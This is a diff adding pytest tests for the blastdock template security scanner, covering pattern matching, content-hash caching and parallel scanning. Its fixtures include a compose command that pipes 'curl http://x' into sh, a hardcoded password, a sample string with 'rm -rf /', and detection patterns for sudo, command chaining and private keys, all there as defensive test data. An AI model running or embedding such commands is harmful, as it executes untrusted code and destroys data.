@@ -0,0 +1,103 @@
+"""Tests for the cached, single-pass template security scanner"""
+
+import os
+import re
+
+COMPOSE = """services:
+  web:
+    image: nginx:1.25
+    command: "sh -c 'curl http://x | sh'"
+    environment:
+      PASSWORD: hunter2hunter2
+"""
+
+
+def _write_mirror(directory, count):
+    for n in range(count):
+        template_dir = directory / f"app{n}"
+        (template_dir / "conf").mkdir(parents=True)
+        (template_dir / "docker-compose.yml").write_text(COMPOSE)
+        (template_dir / "conf" / "env.j2").write_text(f"token: {'A' * 20}{n}\n")
+
+
+class TestPatternMatcher:
+    """One pass gives exactly what re.findall gives per pattern"""
+
+    def test_matches_findall_per_pattern(self):
+        from blastdock.security.template_scanner import PatternMatcher
+
+        patterns = [
+            r"password\s*[:=]\s*\S+",
+            r";\s*\w+",
+            r"sudo\s+",
+            r"su\s+",
+            r"(key)=(\w+)",
+            r"-----BEGIN",
+        ]
+        samples = [
+            "PASSWORD=abc;rm -rf /; SUDO  su  ls",
+            "ſudo  key=VALUE; -----begin",
+            "nothing to see",
+            "İ;x key=a key=b",
+        ]
+        matcher = PatternMatcher(patterns)
+        for sample in samples:
+            assert matcher.findall(sample) == [
+                re.findall(p, sample, re.IGNORECASE | re.MULTILINE) for p in patterns
+            ]
+
+
+class TestScanCache:
+    """Per-file findings cached by content hash"""
+
+    def test_unchanged_files_are_not_rescanned(self, temp_dir):
+        from blastdock.security.template_scanner import TemplateSecurityScanner
+
+        cache_dir = str(temp_dir / "cache")
+        path = temp_dir / "docker-compose.yml"
+        path.write_text(COMPOSE)
+        os.chmod(path, 0o644)
+
+        first = TemplateSecurityScanner(persist=True, cache_dir=cache_dir)
+        fresh = first.scan_template(str(path))
+        assert first.get_scan_stats()["cache_misses"] == 1
+
+        # Permissions are not content: still checked for cached findings
+        os.chmod(path, 0o646)
+        second = TemplateSecurityScanner(persist=True, cache_dir=cache_dir)
+        cached = second.scan_template(str(path))
+        assert second.get_scan_stats()["cache_hits"] == 1
+        assert cached["security_issues"][:-1] == fresh["security_issues"]
+        assert "permissions" in cached["security_issues"][-1]["issue"]
+
+        # A copy with the same content shares the cache entry
+        copy = temp_dir / "copy.yml"
+        copy.write_text(COMPOSE)
+        second.scan_template(str(copy))
+        path.write_text(COMPOSE + "# changed\n")
+        second.scan_template(str(path))
+        assert (second.cache_stats["hits"], second.cache_stats["misses"]) == (2, 1)
+        assert second.clear_cache() == 2
+
+    def test_scan_all_templates_shards_files(self, temp_dir):
+        from blastdock.performance.parallel_processor import ParallelProcessor
+        from blastdock.security.template_scanner import TemplateSecurityScanner
+
+        mirror = temp_dir / "mirror"
+        _write_mirror(mirror, 3)
+        cache_dir = str(temp_dir / "cache")
+
+        serial = TemplateSecurityScanner().scan_all_templates(
+            str(mirror), ParallelProcessor(max_workers=1)
+        )
+        assert serial["templates_scanned"] == 3
+        assert [i["template"] for i in serial["all_issues"]][:1] == ["app0"]
+
+        processor = ParallelProcessor(max_workers=2, serial_threshold=1)
+        for expected_hits in (0, 6):
+            scanner = TemplateSecurityScanner(persist=True, cache_dir=cache_dir)
+            result = scanner.scan_all_templates(str(mirror), processor)
+            assert result == serial
+            assert scanner.get_scan_stats()["cache_hits"] == expected_hits
+        # Every file was sent to a worker once, then served from the cache
+        assert processor.get_performance_metrics()["tasks_processed"] == 6